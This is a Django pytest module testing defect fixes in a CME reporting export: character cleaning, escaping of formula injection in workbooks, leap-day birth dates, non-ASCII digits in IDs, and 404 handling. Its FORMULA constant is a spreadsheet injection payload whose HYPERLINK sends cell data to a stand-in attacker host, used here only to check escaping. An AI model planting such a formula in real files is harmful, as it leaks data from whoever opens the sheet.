"""Defects found in review of the PARS reporting, each checked as a user
meets it: the workbook opens and its cells read as expected (the real file,
read back with openpyxl), the JSON's dates parse, the form says what is
wrong, and a bad address is a 404, never a server error."""

import datetime
import io
import json

from django.core.exceptions import ValidationError
from django.db import connection
from django.forms import modelform_factory
from django.test import Client

import jsonschema
import openpyxl
import pytest

from cms.models import Institution
from learning.models import BoardCertification, LearnerProfile, ReportedCompletion
from learning.reporting.batches import create_batch, preview
from learning.reporting.json_report import schema

from .report_fixtures import add_moc, certify, reporting_institution, reporting_path
from .report_fixtures import learner as make_learner

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'


@pytest.fixture
def office():
    institution, staff = reporting_institution()
    return institution, staff, reporting_path(institution)


def _client(user):
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def _download(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    content = response.streaming_content if response.streaming else [response.content]
    return b"".join(content)


def _workbook(client, batch):
    data = _download(client, f"/admin/cme-reports/batches/{batch.pk}/learners.xlsx")
    return openpyxl.load_workbook(io.BytesIO(data))


def _json(client, batch):
    data = _download(client, f"/admin/cme-reports/batches/{batch.pk}/learners.json")
    return json.loads(data)


def _reports(document):
    return document["ACCMELearnerReports"]["ActivityReports"]["ActivityReport"]


def _store(batch, **changes):
    """Rewrite the values a batch's row holds (as rows written before the
    names were checked may hold them); the files are written from these."""
    row = ReportedCompletion.objects.get(batch=batch)
    row.data = {**row.data, **changes}
    row.save(update_fields=["data"])


# --- #2: characters XML cannot hold ---------------------------------------------------


@pytest.mark.parametrize("text", ["Chen\uffff", "Chen\ufffe", "Chen\ufdd0", "Chen\U0001fffe"])
def test_the_profile_refuses_a_noncharacter_in_a_name_with_a_message(text):
    user = make_learner("doc-a")
    profile = user.learner_profile
    response = _client(user).post(
        "/me/profile/",
        {
            "full_name": "Maya Chen",
            "first_name": "Maya",
            "last_name": text,
            "credentials": "MD",
            "degree": profile.degree,
            "npi": profile.npi,
            "time_zone": "UTC",
            "birth_month": "4",
            "birth_day": "9",
        },
    )
    assert response.status_code == 400
    assert "is not a character" in response.content.decode()
    assert LearnerProfile.objects.get(user=user).last_name == "Chen"


def test_a_stored_row_with_characters_xml_refuses_still_gives_a_workbook(office):
    institution, staff, path = office
    certify(make_learner("doc-a"), path)
    batch = create_batch(institution, "CME", staff)
    # A lone surrogate only SQLite can store (PostgreSQL's JSON refuses it).
    surrogate = "\ud800" if connection.vendor == "sqlite" else ""
    _store(batch, last_name=f"Ch\uffffe\ufffen{surrogate}\x01", first_name="Ma\x1bya")

    sheet = _workbook(_client(staff), batch)["Sheet1"]

    assert [sheet["D3"].value, sheet["E3"].value] == ["Maya", "Chen"]


def test_a_name_saved_before_the_checks_is_reported_without_its_bad_characters(office):
    institution, staff, path = office
    user = make_learner("doc-a")
    LearnerProfile.objects.filter(user=user).update(
        first_name="Maya\u200b", last_name="\x01Chen\uffff"
    )
    certify(user, path)
    batch = create_batch(institution, "CME", staff)
    client = _client(staff)

    name = _reports(_json(client, batch))[0]["Member"]["Name"]
    sheet = _workbook(client, batch)["Sheet1"]

    assert name == {"GivenName": "Maya", "FamilyName": "Chen"}
    assert [sheet["D3"].value, sheet["E3"].value] == ["Maya", "Chen"]


# --- #7: a character removed must not uncover a formula --------------------------------


def test_a_formula_behind_a_control_character_stays_text_in_the_learner_workbook(office):
    institution, staff, path = office
    certify(make_learner("doc-a"), path)
    batch = create_batch(institution, "CME", staff)
    _store(batch, last_name="\x01" + FORMULA, first_name="\uffff+1+2")
    Institution.objects.filter(pk=institution.pk).update(name="\x02@SUM(1)")

    sheet = _workbook(_client(staff), batch)["Sheet1"]

    assert sheet["E3"].value == "'" + FORMULA
    assert sheet["D3"].value == "'+1+2"
    assert sheet["A1"].value.startswith("'@SUM(1), ACCME provider")
    assert all(cell.data_type == "s" for cell in (sheet["A1"], sheet["D3"], sheet["E3"]))


# --- #6: the activity export ------------------------------------------------------------


def test_control_characters_in_a_path_do_not_break_the_activity_export(office):
    institution, staff, path = office
    path.title = "Sepsis \x1b\uffff update"
    path.joint_provider = "\x01" + FORMULA
    path.save()

    data = _download(_client(staff), "/admin/cme-reports/activities.xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(data))[institution.slug]
    row = {header.value: cell.value for header, cell in zip(sheet[1], sheet[2], strict=True)}
    assert row["Activity Title"] == "Sepsis  update"
    assert row["Joint Provider(s)"] == "'" + FORMULA
    assert row["Providership"] == "Joint"


# --- #4: born on 29 February ------------------------------------------------------------


def test_a_learner_born_on_29_february_has_a_real_date_in_the_json(office):
    institution, staff, path = office
    certify(make_learner("doc-a", birth=(2, 29)), path)
    certify(make_learner("doc-b", "Sam", "Lee", birth=(4, 9)), path)
    batch = create_batch(institution, "CME", staff)

    document = _json(_client(staff), batch)

    births = sorted(r["Member"]["PersonalInfo"]["BirthDate"] for r in _reports(document))
    assert births == ["1900-04-09", "1904-02-29"]
    assert datetime.date.fromisoformat("1904-02-29") == datetime.date(1904, 2, 29)
    assert all(datetime.date.fromisoformat(b) for b in births)
    jsonschema.validate(document, schema())


# --- #3: ASCII digits in IDs ---------------------------------------------------------------


def test_a_board_id_typed_in_full_width_or_arabic_indic_digits_is_saved_in_ascii():
    user = make_learner("doc-a", boards=())
    client = _client(user)

    typed = client.post(
        "/me/profile/reporting/",
        {"action": "board-add", "board-board": "ABIM", "board-board_id": "１２３\u3000４５６"},
    )
    arabic = client.post(
        "/me/profile/reporting/",
        {"action": "board-add", "board-board": "ABP", "board-board_id": "٦٥٤٣٢١"},
    )
    superscript = client.post(
        "/me/profile/reporting/",
        {"action": "board-add", "board-board": "ABA", "board-board_id": "¹²³⁴⁵⁶⁷⁸"},
    )

    assert typed.status_code == arabic.status_code == 302
    saved = dict(BoardCertification.objects.values_list("board", "board_id"))
    assert saved == {"ABIM": "123456", "ABP": "654321"}
    assert superscript.status_code == 400
    assert "This is not a valid ABA ID" in superscript.content.decode()


def test_a_board_id_stored_in_other_digits_is_a_problem_not_a_row(office):
    institution, staff, path = office
    user = make_learner("doc-a", boards=(("ABIM", "１２３４５６"),))
    add_moc(certify(user, path), board_id="１２３４５６")

    plan = preview(institution, "ABIM")

    assert plan.rows == []
    assert [p.field for p in plan.problems] == ["board_id"]
    with pytest.raises(ValidationError) as refused:
        BoardCertification(
            profile=user.learner_profile, board="ABIM", board_id="１２３４５６"
        ).clean()
    assert "not a valid ABIM ID" in str(refused.value)


@pytest.mark.parametrize("provider_id", ["００１２３４５", "٠٠١٢٣٤٥"])
def test_the_institution_form_refuses_a_provider_id_in_other_digits(office, provider_id):
    institution, _, _ = office
    form = modelform_factory(Institution, fields=["accme_provider_id"])(
        {"accme_provider_id": provider_id}, instance=institution
    )
    assert not form.is_valid()
    assert form.errors["accme_provider_id"] == [
        "An ACCME provider ID is 7 digits (keep leading zeros)."
    ]


@pytest.mark.parametrize("activity_id", ["２０２５１２３４５", "٢٠٢٥١٢٣٤٥"])
def test_the_path_refuses_an_activity_id_in_other_digits(office, activity_id):
    _, _, path = office
    path.accme_activity_id = activity_id
    others = [f.name for f in path._meta.fields if f.name != "accme_activity_id"]
    with pytest.raises(ValidationError) as refused:
        path.full_clean(exclude=others)
    assert refused.value.message_dict["accme_activity_id"] == ["An ACCME activity ID is 9 digits."]


# --- #8: an institution given in other digits ------------------------------------------------


@pytest.mark.parametrize("raw", ["%C2%B2", "%D9%A1", "%EF%BC%91", "1%00"])
def test_a_new_batch_for_an_institution_written_in_other_digits_is_not_found(office, raw):
    institution, staff, _ = office
    client = _client(staff)
    url = "/admin/cme-reports/batches/new/?institution={}&body=CME"

    assert client.get(url.format(raw)).status_code == 404
    assert client.post(url.format(raw), {}).status_code == 404
    assert client.get(url.format(institution.pk)).status_code == 200
